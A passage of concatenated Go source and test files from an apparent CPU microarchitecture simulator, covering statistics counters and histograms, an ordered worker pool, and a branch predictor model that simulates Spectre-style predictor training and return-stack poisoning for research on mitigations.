	b.Add("x", 4)
	b.Add("y", 1)
	a.Merge(b)
	if a.Get("x") != 7 || a.Get("y") != 1 {
		t.Fatal("merge wrong")
	}
	if len(a.Keys()) != 2 {
		t.Fatalf("keys = %v", a.Keys())
	}
}

func TestGeomean(t *testing.T) {
	got := Geomean([]float64{1, 4})
	if math.Abs(got-2) > 1e-9 {
		t.Fatalf("geomean(1,4) = %v", got)
	}
	if Geomean(nil) != 0 {
		t.Fatal("empty geomean must be 0")
	}
	// Non-positive entries are skipped.
	if g := Geomean([]float64{2, 0, -1, 2}); math.Abs(g-2) > 1e-9 {
		t.Fatalf("geomean with junk = %v", g)
	}
}

func TestGeomeanBetweenMinAndMax(t *testing.T) {
	f := func(raw []float64) bool {
		var xs []float64
		lo, hi := math.Inf(1), math.Inf(-1)
		for _, x := range raw {
			x = math.Abs(x)
			if x > 0 && x < 1e6 {
				xs = append(xs, x)
				lo = math.Min(lo, x)
				hi = math.Max(hi, x)
			}
		}
		if len(xs) == 0 {
			return true
		}
		g := Geomean(xs)
		return g >= lo-1e-9 && g <= hi+1e-9
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestMean(t *testing.T) {
	if Mean([]float64{1, 2, 3}) != 2 {
		t.Fatal("mean wrong")
	}
	if Mean(nil) != 0 {
		t.Fatal("empty mean must be 0")
	}
}

func TestSetEmpty(t *testing.T) {
	s := NewSet("empty")
	if got := s.String(); got != "empty{}" {
		t.Fatalf("String() = %q", got)
	}
	if keys := s.Keys(); len(keys) != 0 {
		t.Fatalf("Keys() = %v, want none", keys)
	}
	if r := s.Ratio("a", "b"); r != 0 {
		t.Fatalf("Ratio on empty set = %v", r)
	}
	// Merging an empty set changes nothing, either direction.
	a := NewSet("a")
	a.Inc("x")
	a.Merge(s)
	s.Merge(a)
	if a.Get("x") != 1 || s.Get("x") != 1 {
		t.Fatal("merge with empty set wrong")
	}
}

// TestSetDuplicateKeysOrder pins the first-use ordering contract: re-adding
// or re-setting an existing key must not duplicate it or move it, and Merge
// appends only keys the receiver has not seen.
func TestSetDuplicateKeysOrder(t *testing.T) {
	s := NewSet("s")
	s.Inc("b")
	s.Inc("a")
	s.Set("b", 7) // existing key: value changes, position does not
	s.Add("a", 2)
	s.Inc("c")
	want := []string{"b", "a", "c"}
	got := s.Keys()
	if len(got) != len(want) {
		t.Fatalf("Keys() = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("Keys() = %v, want %v", got, want)
		}
	}
	other := NewSet("o")
	other.Inc("a") // already known: must not reappear at the tail
	other.Inc("d")
	s.Merge(other)
	want = []string{"b", "a", "c", "d"}
	got = s.Keys()
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("after merge Keys() = %v, want %v", got, want)
		}
	}
	// Mutating the returned slice must not corrupt the set.
	got[0] = "zzz"
	if s.Keys()[0] != "b" {
		t.Fatal("Keys() must return a copy")
	}
}

func TestHistogram(t *testing.T) {
	h := NewHistogram(10, 5)
	for _, v := range []uint64{1, 5, 15, 25, 1000} {
		h.Observe(v)
	}
	if h.N != 5 || h.Max != 1000 {
		t.Fatal("counts wrong")
	}
	if h.MeanValue() != (1+5+15+25+1000)/5.0 {
		t.Fatalf("mean = %v", h.MeanValue())
	}
	if p := h.Percentile(50); p != 20 {
		t.Fatalf("p50 = %d", p)
	}
	if h.Percentile(100) < 40 {
		t.Fatal("p100 must reach the top bucket")
	}
}

func TestHistogramEmpty(t *testing.T) {
	h := NewHistogram(10, 4)
	if h.MeanValue() != 0 {
		t.Fatal("empty mean must be 0")
	}
	for _, p := range []float64{0, 50, 99, 100} {
		if h.Percentile(p) != 0 {
			t.Fatalf("empty p%v = %d", p, h.Percentile(p))
		}
	}
}

func TestHistogramSingleSample(t *testing.T) {
	h := NewHistogram(10, 4)
	h.Observe(17)
	if h.N != 1 || h.Sum != 17 || h.Max != 17 {
		t.Fatalf("moments wrong: N=%d Sum=%d Max=%d", h.N, h.Sum, h.Max)
	}
	if h.MeanValue() != 17 {
		t.Fatalf("mean = %v", h.MeanValue())
	}
	// Every percentile of a one-sample distribution is that sample's bucket
	// upper bound.
	for _, p := range []float64{1, 50, 99, 100} {
		if got := h.Percentile(p); got != 20 {
			t.Fatalf("p%v = %d, want 20", p, got)
		}
	}
	if h.Counts[1] != 1 {
		t.Fatalf("counts = %v", h.Counts)
	}
}

func TestHistogramOverflowBucket(t *testing.T) {
	h := NewHistogram(10, 4)
	h.Observe(1 << 40) // far past the last bucket boundary
	if h.Counts[3] != 1 {
		t.Fatalf("overflow must land in the last bucket: %v", h.Counts)
	}
	if h.Percentile(100) != 1<<40 {
		t.Fatalf("p100 = %d, want the true max", h.Percentile(100))
	}
}

func TestHistogramMerge(t *testing.T) {
	a := NewHistogram(10, 4)
	b := NewHistogram(10, 4)
	for _, v := range []uint64{1, 11, 21} {
		a.Observe(v)
	}
	for _, v := range []uint64{5, 500} {
		b.Observe(v)
	}
	a.Merge(b)
	if a.N != 5 || a.Sum != 1+11+21+5+500 || a.Max != 500 {
		t.Fatalf("merged moments wrong: N=%d Sum=%d Max=%d", a.N, a.Sum, a.Max)
	}
	if a.Counts[0] != 2 || a.Counts[3] != 1 {
		t.Fatalf("merged counts = %v", a.Counts)
	}
	// Merging nil or an empty histogram is a no-op, even on shape mismatch
	// (an empty histogram carries no samples to rebin).
	before := a.N
	a.Merge(nil)
	a.Merge(NewHistogram(999, 1))
	if a.N != before {
		t.Fatal("empty merge must not change N")
	}
}

func TestHistogramMergeShapeMismatchPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("shape mismatch must panic")
		}
	}()
	a := NewHistogram(10, 4)
	b := NewHistogram(20, 4)
	b.Observe(1)
	a.Merge(b)
}

func TestHistogramPercentileZeroSkipsEmptyBuckets(t *testing.T) {
	// Regression: p=0 used to compute target=0, which the very first bucket
	// satisfied even when empty — reporting a bound below every sample. The
	// 0th percentile must land on the first non-empty bucket.
	h := NewHistogram(10, 8)
	h.Observe(45) // bucket 4 only; buckets 0-3 empty
	if got := h.Percentile(0); got != 50 {
		t.Fatalf("p0 = %d, want 50 (first non-empty bucket bound)", got)
	}
	h.Observe(3) // now bucket 0 is occupied
	if got := h.Percentile(0); got != 10 {
		t.Fatalf("p0 = %d, want 10", got)
	}
}

func TestHistogramHighEventCounts(t *testing.T) {
	// Oracle-shaped stress: generated programs can record events far past the
	// last bucket and in volumes that dwarf the bucket count. Percentiles must
	// stay monotone in p and never exceed the observed max.
	h := NewHistogram(4, 16)
	for i := uint64(0); i < 100_000; i++ {
		h.Observe(i % 257) // most samples clamp into the open last bucket
	}
	prev := uint64(0)
	for _, p := range []float64{0, 1, 25, 50, 75, 99, 100} {
		got := h.Percentile(p)
		if got < prev {
			t.Fatalf("percentiles not monotone: p%v = %d < %d", p, got, prev)
		}
		if got > h.Max {
			t.Fatalf("p%v = %d exceeds observed max %d", p, got, h.Max)
		}
		prev = got
	}
	if h.Percentile(100) != h.Max {
		t.Fatalf("p100 = %d, want max %d", h.Percentile(100), h.Max)
	}
}
