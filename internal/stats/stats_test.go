package stats

import (
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestSetBasics(t *testing.T) {
	s := NewSet("test")
	s.Inc("a")
	s.Add("a", 4)
	s.Set("b", 10)
	if s.Get("a") != 5 || s.Get("b") != 10 || s.Get("missing") != 0 {
		t.Fatal("counter values wrong")
	}
	if r := s.Ratio("a", "b"); r != 0.5 {
		t.Fatalf("ratio = %v", r)
	}
	if r := s.Ratio("a", "zero"); r != 0 {
		t.Fatal("zero denominator must yield 0")
	}
	if !strings.Contains(s.String(), "a=5") {
		t.Fatalf("String() = %s", s)
	}
}

func TestSetMerge(t *testing.T) {
	a := NewSet("a")
	a.Add("x", 3)
	b := NewSet("b")
	b.Add("x", 4)
	b.Add("y", 1)
	a.Merge(b)
	if a.Get("x") != 7 || a.Get("y") != 1 {
		t.Fatal("merge wrong")
	}
	if len(a.Keys()) != 2 {
		t.Fatalf("keys = %v", a.Keys())
	}
}

func TestGeomean(t *testing.T) {
	got := Geomean([]float64{1, 4})
	if math.Abs(got-2) > 1e-9 {
		t.Fatalf("geomean(1,4) = %v", got)
	}
	if Geomean(nil) != 0 {
		t.Fatal("empty geomean must be 0")
	}
	// Non-positive entries are skipped.
	if g := Geomean([]float64{2, 0, -1, 2}); math.Abs(g-2) > 1e-9 {
		t.Fatalf("geomean with junk = %v", g)
	}
}

func TestGeomeanBetweenMinAndMax(t *testing.T) {
	f := func(raw []float64) bool {
		var xs []float64
		lo, hi := math.Inf(1), math.Inf(-1)
		for _, x := range raw {
			x = math.Abs(x)
			if x > 0 && x < 1e6 {
				xs = append(xs, x)
				lo = math.Min(lo, x)
				hi = math.Max(hi, x)
			}
		}
		if len(xs) == 0 {
			return true
		}
		g := Geomean(xs)
		return g >= lo-1e-9 && g <= hi+1e-9
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestMean(t *testing.T) {
	if Mean([]float64{1, 2, 3}) != 2 {
		t.Fatal("mean wrong")
	}
	if Mean(nil) != 0 {
		t.Fatal("empty mean must be 0")
	}
}

func TestHistogram(t *testing.T) {
	h := NewHistogram(10, 5)
	for _, v := range []uint64{1, 5, 15, 25, 1000} {
		h.Observe(v)
	}
	if h.N != 5 || h.Max != 1000 {
		t.Fatal("counts wrong")
	}
	if h.MeanValue() != (1+5+15+25+1000)/5.0 {
		t.Fatalf("mean = %v", h.MeanValue())
	}
	if p := h.Percentile(50); p != 20 {
		t.Fatalf("p50 = %d", p)
	}
	if h.Percentile(100) < 40 {
		t.Fatal("p100 must reach the top bucket")
	}
}
