// Package stats provides the counters, ratios and summary statistics the
// experiment harness reports. Counters are plain uint64s grouped in a named
// Set so every component can expose its numbers without depending on the
// harness.
package stats

import (
	"fmt"
	"math"
	"sort"
	"strings"
)

// Set is a named collection of counters. The zero value is not usable; use
// NewSet.
//
// Counters are stored behind stable pointers so hot paths can increment
// through a handle from Counter instead of hashing the key on every event.
type Set struct {
	name     string
	counters map[string]*uint64
	order    []string
}

// NewSet returns an empty counter set with the given name.
func NewSet(name string) *Set {
	return &Set{name: name, counters: make(map[string]*uint64)}
}

// Counter returns a stable pointer to counter key, creating it on first
// use. The pointer stays valid for the life of the Set; incrementing
// through it is equivalent to Add(key, 1) without the map lookup.
func (s *Set) Counter(key string) *uint64 {
	p, ok := s.counters[key]
	if !ok {
		p = new(uint64)
		s.counters[key] = p
		s.order = append(s.order, key)
	}
	return p
}

// Add increments counter key by delta, creating it on first use.
func (s *Set) Add(key string, delta uint64) {
	*s.Counter(key) += delta
}

// Inc increments counter key by one.
func (s *Set) Inc(key string) { s.Add(key, 1) }

// Get returns the current value of counter key (0 if never touched).
func (s *Set) Get(key string) uint64 {
	if p, ok := s.counters[key]; ok {
		return *p
	}
	return 0
}

// Set assigns counter key to v.
func (s *Set) Set(key string, v uint64) {
	*s.Counter(key) = v
}

// Keys returns the counter names in first-use order.
func (s *Set) Keys() []string { return append([]string(nil), s.order...) }

// Name returns the set name.
func (s *Set) Name() string { return s.name }

// Ratio returns a/b as float64, or 0 when b is zero.
func (s *Set) Ratio(a, b string) float64 {
	den := s.Get(b)
	if den == 0 {
		return 0
	}
	return float64(s.Get(a)) / float64(den)
}

// String renders the set as "name{k1=v1 k2=v2 ...}" with keys sorted for
// stable output.
func (s *Set) String() string {
	keys := append([]string(nil), s.order...)
	sort.Strings(keys)
	var b strings.Builder
	fmt.Fprintf(&b, "%s{", s.name)
	for i, k := range keys {
		if i > 0 {
			b.WriteByte(' ')
		}
		fmt.Fprintf(&b, "%s=%d", k, s.Get(k))
	}
	b.WriteByte('}')
	return b.String()
}

// Merge adds every counter from other into s.
func (s *Set) Merge(other *Set) {
	for _, k := range other.order {
		s.Add(k, other.Get(k))
	}
}

// Geomean returns the geometric mean of xs. Non-positive entries are
// skipped; an empty input yields 0.
func Geomean(xs []float64) float64 {
	sum, n := 0.0, 0
	for _, x := range xs {
		if x > 0 {
			sum += math.Log(x)
			n++
		}
	}
	if n == 0 {
		return 0
	}
	return math.Exp(sum / float64(n))
}

// Mean returns the arithmetic mean of xs, or 0 for empty input.
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sum := 0.0
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs))
}

// Histogram is a simple fixed-bucket histogram for latency distributions.
type Histogram struct {
	BucketWidth uint64
	Counts      []uint64
	N           uint64
	Sum         uint64
	Max         uint64
}

// NewHistogram returns a histogram with the given bucket width and count.
func NewHistogram(bucketWidth uint64, buckets int) *Histogram {
	return &Histogram{BucketWidth: bucketWidth, Counts: make([]uint64, buckets)}
}

// Observe records one sample.
func (h *Histogram) Observe(v uint64) {
	b := int(v / h.BucketWidth)
	if b >= len(h.Counts) {
		b = len(h.Counts) - 1
	}
	h.Counts[b]++
	h.N++
	h.Sum += v
	if v > h.Max {
		h.Max = v
	}
}

// Merge folds other's samples into h. Both histograms must share the same
// bucket shape (width and count); mismatched shapes panic, since silently
// rebinning would corrupt percentile bounds.
func (h *Histogram) Merge(other *Histogram) {
	if other == nil || other.N == 0 {
		return
	}
	if h.BucketWidth != other.BucketWidth || len(h.Counts) != len(other.Counts) {
		panic("stats: Histogram.Merge shape mismatch")
	}
	for i, c := range other.Counts {
		h.Counts[i] += c
	}
	h.N += other.N
	h.Sum += other.Sum
	if other.Max > h.Max {
		h.Max = other.Max
	}
}

// MeanValue returns the mean of the observed samples.
func (h *Histogram) MeanValue() float64 {
	if h.N == 0 {
		return 0
	}
	return float64(h.Sum) / float64(h.N)
}

// Percentile returns an upper bound for the p-th percentile (0..100) using
// bucket boundaries.
func (h *Histogram) Percentile(p float64) uint64 {
	if h.N == 0 {
		return 0
	}
	target := uint64(math.Ceil(p / 100 * float64(h.N)))
	if target == 0 {
		// p = 0 would otherwise match the first bucket even when it is
		// empty, reporting a bound below every observed sample. The 0th
		// percentile is the first non-empty bucket's bound.
		target = 1
	}
	var cum uint64
	for i, c := range h.Counts {
		cum += c
		if cum >= target {
			if i == len(h.Counts)-1 {
				// The last bucket is open-ended (out-of-range samples are
				// clamped into it), so its fixed boundary can understate the
				// data; the observed max is the tight upper bound.
				return h.Max
			}
			return uint64(i+1) * h.BucketWidth
		}
	}
	return h.Max
}
