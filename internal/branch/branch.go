// Package branch implements the front-end prediction structures the Spectre
// family of attacks trains: a gshare pattern history table (PHT) for
// conditional direction, a branch target buffer (BTB) for taken targets, a
// return stack buffer (RSB), and a branch-history-buffer (BHB) indexed
// indirect-target predictor. All structures are deliberately attacker
// trainable — aliasing between attacker and victim PCs is what the PoCs in
// internal/attacks exploit.
package branch

import "fmt"

// Predictor bundles the per-core prediction state.
type Predictor struct {
	phtBits int
	pht     []uint8 // 2-bit saturating counters
	ghr     uint64  // global history register

	btb     []btbEntry
	btbMask uint64

	rsb    []uint64
	rsbTop int
	rsbLen int

	bhb     uint64 // branch history buffer for indirect prediction
	bhbLen  int
	ittable map[uint64]uint64 // (pc ^ folded BHB) -> predicted indirect target

	// Stats.
	CondLookups, CondMispredicts uint64
	IndLookups, IndMispredicts   uint64
	RetLookups, RetMispredicts   uint64

	// ChaosFlipCond, when set, may invert the direction predicted for a
	// conditional branch (fault injection). A flipped prediction behaves
	// exactly like an organic mispredict: resolution trains the PHT with the
	// true outcome and repairs the speculative history, so the perturbation
	// is microarchitectural only.
	ChaosFlipCond func(pc uint64) bool
}

type btbEntry struct {
	valid  bool
	pc     uint64
	target uint64
}

// Config sizes the predictor.
type Config struct {
	PHTBits  int
	BTBSize  int
	RSBDepth int
	BHBLen   int
}

// New returns a predictor with the given geometry.
func New(cfg Config) (*Predictor, error) {
	size := cfg.BTBSize
	if size == 0 || size&(size-1) != 0 {
		return nil, fmt.Errorf("branch: BTBSize %d must be a power of two", size)
	}
	p := &Predictor{
		phtBits: cfg.PHTBits,
		pht:     make([]uint8, 1<<cfg.PHTBits),
		btb:     make([]btbEntry, size),
		btbMask: uint64(size - 1),
		rsb:     make([]uint64, cfg.RSBDepth),
		bhbLen:  cfg.BHBLen,
		ittable: make(map[uint64]uint64),
	}
	// Weakly taken initial state.
	for i := range p.pht {
		p.pht[i] = 2
	}
	return p, nil
}

func (p *Predictor) phtIndex(pc uint64) uint64 {
	return (pc>>2 ^ p.ghr) & (uint64(1)<<p.phtBits - 1)
}

// PredictCond predicts the direction of a conditional branch at pc and
// speculatively folds the prediction into the global history (so that
// back-to-back in-flight branches see consistent history). It returns the
// pre-prediction history snapshot; the pipeline carries it to resolution so
// ResolveCond can train the right PHT entry and repair the history on a
// mispredict.
func (p *Predictor) PredictCond(pc uint64) (taken bool, snapshot uint64) {
	p.CondLookups++
	snapshot = p.ghr
	taken = p.pht[p.phtIndex(pc)] >= 2
	if p.ChaosFlipCond != nil && p.ChaosFlipCond(pc) {
		taken = !taken
	}
	p.ghr = p.ghr<<1 | b2u(taken)
	return taken, snapshot
}

// ResolveCond trains the PHT with the resolved outcome using the history
// snapshot captured at prediction time, and repairs the speculative global
// history when the prediction was wrong.
func (p *Predictor) ResolveCond(pc uint64, snapshot uint64, predicted, taken bool) {
	saved := p.ghr
	p.ghr = snapshot
	idx := p.phtIndex(pc)
	p.ghr = saved
	c := p.pht[idx]
	if taken && c < 3 {
		c++
	} else if !taken && c > 0 {
		c--
	}
	p.pht[idx] = c
	if predicted != taken {
		p.CondMispredicts++
		p.ghr = snapshot<<1 | b2u(taken)
	}
}

// TrainCond is the in-order training entry point used by attack PoCs and
// tests that drive the predictor directly (prediction and resolution fused).
func (p *Predictor) TrainCond(pc uint64, taken bool) {
	pred, snap := p.PredictCond(pc)
	p.ResolveCond(pc, snap, pred, taken)
}

// PredictTarget returns the BTB's target for a taken branch at pc, or
// (0,false) on a BTB miss (the front end then falls through and re-steers at
// resolution).
func (p *Predictor) PredictTarget(pc uint64) (uint64, bool) {
	e := &p.btb[(pc>>2)&p.btbMask]
	if e.valid && e.pc == pc {
		return e.target, true
	}
	return 0, false
}

// UpdateTarget installs the resolved target for pc in the BTB. Aliased PCs
// (same index, different pc) overwrite each other — the Spectre-v2 training
// surface.
func (p *Predictor) UpdateTarget(pc, target uint64) {
	p.btb[(pc>>2)&p.btbMask] = btbEntry{valid: true, pc: pc, target: target}
}

// PredictIndirect predicts an indirect branch (BR/BLR) target using the BHB
// hash; falls back to the BTB.
func (p *Predictor) PredictIndirect(pc uint64) (uint64, bool) {
	p.IndLookups++
	if t, ok := p.ittable[p.indIndex(pc)]; ok {
		return t, true
	}
	return p.PredictTarget(pc)
}

func (p *Predictor) indIndex(pc uint64) uint64 {
	folded := p.bhb ^ p.bhb>>17 ^ p.bhb>>31
	return pc ^ folded<<1
}

// UpdateIndirect trains the indirect predictor; predicted reports whether
// the earlier prediction matched.
func (p *Predictor) UpdateIndirect(pc, target uint64, predictedTarget uint64, hadPrediction bool) {
	p.ittable[p.indIndex(pc)] = target
	p.UpdateTarget(pc, target)
	if !hadPrediction || predictedTarget != target {
		p.IndMispredicts++
	}
}

// NoteBranch folds a resolved branch into the BHB, which seasons indirect
// prediction — the Spectre-BHB training surface.
func (p *Predictor) NoteBranch(pc, target uint64) {
	p.bhb = (p.bhb<<2 | (pc>>4^target>>4)&3) & (uint64(1)<<(2*p.bhbLen) - 1)
}

// PushReturn records a call's return address on the RSB.
func (p *Predictor) PushReturn(addr uint64) {
	p.rsbTop = (p.rsbTop + 1) % len(p.rsb)
	p.rsb[p.rsbTop] = addr
	if p.rsbLen < len(p.rsb) {
		p.rsbLen++
	}
}

// PredictReturn pops the RSB prediction for a RET at pc. An empty or
// underflowed RSB yields (0,false). Overfilled stacks wrap — the
// ret2spec/Spectre-RSB surface.
func (p *Predictor) PredictReturn() (uint64, bool) {
	p.RetLookups++
	if p.rsbLen == 0 {
		return 0, false
	}
	t := p.rsb[p.rsbTop]
	p.rsbTop = (p.rsbTop - 1 + len(p.rsb)) % len(p.rsb)
	p.rsbLen--
	return t, true
}

// NoteReturnResolved counts RSB mispredictions.
func (p *Predictor) NoteReturnResolved(predicted uint64, hadPrediction bool, actual uint64) {
	if !hadPrediction || predicted != actual {
		p.RetMispredicts++
	}
}

// PoisonRSB overwrites the top RSB entries with an attacker-chosen target —
// a direct model of RSB stuffing from attacker-controlled code.
func (p *Predictor) PoisonRSB(target uint64, n int) {
	for i := 0; i < n; i++ {
		p.PushReturn(target)
	}
}

// GHR exposes the global history register (tests / diagnostics).
func (p *Predictor) GHR() uint64 { return p.ghr }

// BHB exposes the branch history buffer (tests / diagnostics).
func (p *Predictor) BHB() uint64 { return p.bhb }

func b2u(b bool) uint64 {
	if b {
		return 1
	}
	return 0
}
