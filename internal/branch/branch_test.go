package branch

import (
	"testing"
	"testing/quick"
)

func newP() *Predictor {
	p, err := New(Config{PHTBits: 10, BTBSize: 64, RSBDepth: 8, BHBLen: 8})
	if err != nil {
		panic(err)
	}
	return p
}

func TestCondTraining(t *testing.T) {
	p := newP()
	pc := uint64(0x1000)
	// Train always-taken: after the history warms up the prediction sticks.
	for i := 0; i < 20; i++ {
		p.TrainCond(pc, true)
	}
	taken, _ := p.PredictCond(pc)
	if !taken {
		t.Fatal("always-taken branch must predict taken")
	}
	// Retrain not-taken (enough iterations for the 10-bit history to
	// converge and the 2-bit counter to saturate).
	for i := 0; i < 20; i++ {
		p.TrainCond(pc, false)
	}
	taken, _ = p.PredictCond(pc)
	if taken {
		t.Fatal("retrained branch must predict not-taken")
	}
}

func TestCondAlternatingPatternLearned(t *testing.T) {
	// gshare with speculative history must learn a strict alternation.
	p := newP()
	pc := uint64(0x2000)
	outcome := false
	for i := 0; i < 64; i++ {
		p.TrainCond(pc, outcome)
		outcome = !outcome
	}
	mispBefore := p.CondMispredicts
	for i := 0; i < 32; i++ {
		p.TrainCond(pc, outcome)
		outcome = !outcome
	}
	if d := p.CondMispredicts - mispBefore; d > 2 {
		t.Fatalf("alternating pattern still mispredicts %d/32 after warmup", d)
	}
}

func TestHistoryRepairOnMispredict(t *testing.T) {
	p := newP()
	pc := uint64(0x3000)
	pred, snap := p.PredictCond(pc)
	// Speculative history advanced by the prediction...
	if p.GHR() == snap {
		t.Fatal("PredictCond must advance the speculative history")
	}
	// ...and is repaired when the prediction was wrong.
	p.ResolveCond(pc, snap, pred, !pred)
	want := snap<<1 | map[bool]uint64{true: 1, false: 0}[!pred]
	if p.GHR() != want {
		t.Fatalf("GHR after repair = %#x, want %#x", p.GHR(), want)
	}
}

func TestBTB(t *testing.T) {
	p := newP()
	p.UpdateTarget(0x4000, 0x9000)
	if tgt, ok := p.PredictTarget(0x4000); !ok || tgt != 0x9000 {
		t.Fatal("BTB must return the trained target")
	}
	if _, ok := p.PredictTarget(0x4004); ok {
		t.Fatal("BTB must miss for untrained pc")
	}
	// Aliasing: same index, different pc overwrites.
	alias := 0x4000 + uint64(64)<<2
	p.UpdateTarget(alias, 0x8000)
	if _, ok := p.PredictTarget(0x4000); ok {
		t.Fatal("aliased entry must evict the old pc")
	}
}

func TestRSBLIFOAndUnderflow(t *testing.T) {
	p := newP()
	if _, ok := p.PredictReturn(); ok {
		t.Fatal("empty RSB must not predict")
	}
	p.PushReturn(1)
	p.PushReturn(2)
	p.PushReturn(3)
	for want := uint64(3); want >= 1; want-- {
		got, ok := p.PredictReturn()
		if !ok || got != want {
			t.Fatalf("pop = %d,%v want %d", got, ok, want)
		}
	}
	if _, ok := p.PredictReturn(); ok {
		t.Fatal("drained RSB must not predict")
	}
}

func TestRSBOverflowWraps(t *testing.T) {
	p := newP() // depth 8
	for i := 1; i <= 12; i++ {
		p.PushReturn(uint64(i))
	}
	// The 8 most recent survive: 12..5.
	for want := uint64(12); want >= 5; want-- {
		got, ok := p.PredictReturn()
		if !ok || got != want {
			t.Fatalf("pop = %d,%v want %d", got, ok, want)
		}
	}
	if _, ok := p.PredictReturn(); ok {
		t.Fatal("the overwritten entries must be gone")
	}
}

func TestPoisonRSB(t *testing.T) {
	p := newP()
	p.PoisonRSB(0xbad, 3)
	for i := 0; i < 3; i++ {
		if tgt, ok := p.PredictReturn(); !ok || tgt != 0xbad {
			t.Fatal("poisoned entries must predict the attacker target")
		}
	}
}

func TestIndirectHistoryKeying(t *testing.T) {
	p := newP()
	pc := uint64(0x5000)
	histA := func() {
		for i := 0; i < 8; i++ { // fully determines the 8-entry BHB
			p.NoteBranch(0x100, 0x200)
			p.NoteBranch(0x310, 0x400)
		}
	}
	histB := func() {
		for i := 0; i < 8; i++ {
			p.NoteBranch(0x510, 0x600)
			p.NoteBranch(0x700, 0x810)
		}
	}
	histA()
	ctxA := p.BHB()
	p.UpdateIndirect(pc, 0xaaa, 0, false)
	histB()
	if p.BHB() == ctxA {
		t.Fatal("test setup: histories must differ")
	}
	p.UpdateIndirect(pc, 0xbbb, 0, false)
	// Replay history A: the A-trained target must come back even though
	// the most recent training installed 0xbbb.
	histA()
	if p.BHB() != ctxA {
		t.Fatal("replayed history must reproduce the BHB state")
	}
	if tgt, ok := p.PredictIndirect(pc); !ok || tgt != 0xaaa {
		t.Fatalf("history-keyed prediction = %#x,%v want 0xaaa", tgt, ok)
	}
}

func TestIndirectFallsBackToBTB(t *testing.T) {
	p := newP()
	p.UpdateTarget(0x6000, 0x7777)
	if tgt, ok := p.PredictIndirect(0x6000); !ok || tgt != 0x7777 {
		t.Fatal("indirect prediction must fall back to the BTB")
	}
}

func TestRSBNeverReturnsUnpushedValues(t *testing.T) {
	f := func(pushes []uint64) bool {
		p := newP()
		seen := map[uint64]bool{}
		for _, v := range pushes {
			p.PushReturn(v)
			seen[v] = true
		}
		for {
			v, ok := p.PredictReturn()
			if !ok {
				return true
			}
			if !seen[v] {
				return false
			}
		}
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
