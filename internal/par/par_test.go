package par

import (
	"sync/atomic"
	"testing"
)

func TestForEachOrderedFlushOrder(t *testing.T) {
	for _, workers := range []int{1, 2, 4, 8} {
		const n = 200
		var ran [n]int32
		var flushed []int
		ForEachOrdered(n, workers,
			func(i int) { atomic.AddInt32(&ran[i], 1) },
			func(i int) { flushed = append(flushed, i) })
		for i := range ran {
			if ran[i] != 1 {
				t.Fatalf("workers=%d: fn(%d) ran %d times", workers, i, ran[i])
			}
		}
		if len(flushed) != n {
			t.Fatalf("workers=%d: %d flushes, want %d", workers, len(flushed), n)
		}
		for i, v := range flushed {
			if v != i {
				t.Fatalf("workers=%d: flush order %v... not ascending at %d", workers, flushed[:i+1], i)
			}
		}
	}
}

func TestForEachOrderedNilFlush(t *testing.T) {
	var count int32
	ForEachOrdered(50, 4, func(i int) { atomic.AddInt32(&count, 1) }, nil)
	if count != 50 {
		t.Fatalf("ran %d, want 50", count)
	}
}

func TestWorkers(t *testing.T) {
	if got := Workers(3, 10); got != 3 {
		t.Errorf("Workers(3,10)=%d", got)
	}
	if got := Workers(8, 2); got != 2 {
		t.Errorf("Workers(8,2)=%d, want clamped to items", got)
	}
	if got := Workers(0, 100); got < 1 {
		t.Errorf("Workers(0,100)=%d", got)
	}
}
