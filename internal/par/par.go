// Package par provides the deterministic worker-pool primitive the harness
// and chaos layers parallelise on: results are produced concurrently but
// observed strictly in index order, so parallel output is byte-identical to
// the serial path.
package par

import (
	"runtime"
	"sync"
)

// Workers resolves a worker-count option: n <= 0 means GOMAXPROCS, and the
// pool never exceeds the number of items.
func Workers(n, items int) int {
	if n <= 0 {
		n = runtime.GOMAXPROCS(0)
	}
	if n > items {
		n = items
	}
	if n < 1 {
		n = 1
	}
	return n
}

// ForEachOrdered runs fn(i) for every i in [0, n) on a bounded pool and
// calls flush(i) exactly once per index, in ascending index order, after
// fn(i) has returned. fn runs concurrently and must only touch index-local
// state; flush observes the results and is always called from a single
// goroutine at a time with all earlier indices already flushed — the place
// to write logs, update shared maps, or render output deterministically.
//
// With workers <= 1 the loop degenerates to the plain serial interleaving
// (fn(0), flush(0), fn(1), flush(1), ...), which doubles as the reference
// ordering the parallel path must reproduce.
func ForEachOrdered(n, workers int, fn func(i int), flush func(i int)) {
	if n <= 0 {
		return
	}
	if Workers(workers, n) == 1 {
		for i := 0; i < n; i++ {
			fn(i)
			if flush != nil {
				flush(i)
			}
		}
		return
	}
	workers = Workers(workers, n)

	var (
		mu        sync.Mutex
		done      = make([]bool, n)
		nextFlush int
		next      int
		wg        sync.WaitGroup
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				mu.Lock()
				i := next
				next++
				mu.Unlock()
				if i >= n {
					return
				}
				fn(i)
				mu.Lock()
				done[i] = true
				// Flush the completed prefix. Only the goroutine that
				// completes index nextFlush advances the cursor, so flush
				// calls are serialised and ascending.
				for nextFlush < n && done[nextFlush] {
					j := nextFlush
					if flush != nil {
						flush(j)
					}
					nextFlush++
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
}
