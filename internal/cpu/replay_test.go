package cpu

import (
	"testing"

	"specasan/internal/core"
	"specasan/internal/trace"
	"specasan/internal/workloads"
)

// buildLive assembles a registry workload the canonical way and boots it on
// a fresh machine — the exact path RunBenchmark takes without traces.
func buildLive(spec *workloads.Spec, mit core.Mitigation, scale float64) func(t *testing.T) *Machine {
	return func(t *testing.T) *Machine {
		t.Helper()
		prog, err := spec.Build(mit.MTEEnabled(), scale)
		if err != nil {
			t.Fatal(err)
		}
		cfg := core.DefaultConfig()
		cfg.Cores = spec.Threads
		m, err := NewMachine(cfg, mit, prog)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < spec.Threads; i++ {
			m.Core(i).SetReg(0, uint64(i))
		}
		return m
	}
}

// buildReplay records the same workload as a trace, round-trips it through
